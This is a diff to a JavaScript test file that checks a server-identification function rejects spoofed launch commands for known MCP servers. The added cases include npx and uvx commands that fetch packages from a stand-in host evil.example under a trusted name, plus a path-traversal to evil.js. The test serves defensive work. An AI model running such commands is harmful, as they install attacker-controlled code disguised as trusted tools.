@@ -32,6 +32,12 @@ describe('which known server a server is', () => {
     'npx evil-server /srv/node_modules/@playwright/mcp',
     'node server.js /srv/node_modules/@playwright/mcp/cli.js',
     'bash -c mitmproxy-mcp',
+    // Under its name something else is fetched.
+    'npx -y @playwright/mcp@npm:evil-server',
+    'npx -y @playwright/mcp@https://evil.example/x.tgz',
+    'npx -y --registry https://evil.example @playwright/mcp',
+    'uvx --index-url=https://evil.example mitmproxy-mcp',
+    'node /srv/node_modules/@playwright/mcp/../../../evil.js',
   ])('%s is none', (command) => {
     expect(knownAs({ name: undefined, command: command.split(' ') }, catalogue)).toBeUndefined();
   });
